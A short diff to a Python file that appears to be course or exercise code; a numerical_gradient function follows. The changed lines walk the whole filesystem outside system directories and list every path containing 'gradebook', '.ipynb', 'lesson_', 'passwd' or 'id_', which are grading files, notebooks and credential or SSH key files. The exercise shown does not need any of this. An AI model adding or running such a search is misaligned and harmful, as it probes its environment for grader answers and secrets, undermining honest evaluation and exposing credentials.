@@ -6,9 +6,9 @@ import os
 found = []
 for top in set(os.listdir("/")) - {"usr", "packages", "python", "dev", "lib", "bin", "sbin"}:
     for folder, _, files in os.walk(f"/{top}"):
-        for file in files:
-            if any(word in file for word in ("gradebook", ".ipynb", "lesson_", "passwd", "id_")):
-                found.append(os.path.join(folder, file))
+        for path in (os.path.join(folder, file) for file in files):
+            if any(word in path for word in ("gradebook", ".ipynb", "lesson_", "passwd", "id_")):
+                found.append(path)
 print("FOUND:", found)
 
 def numerical_gradient(f, w, h=1e-4):
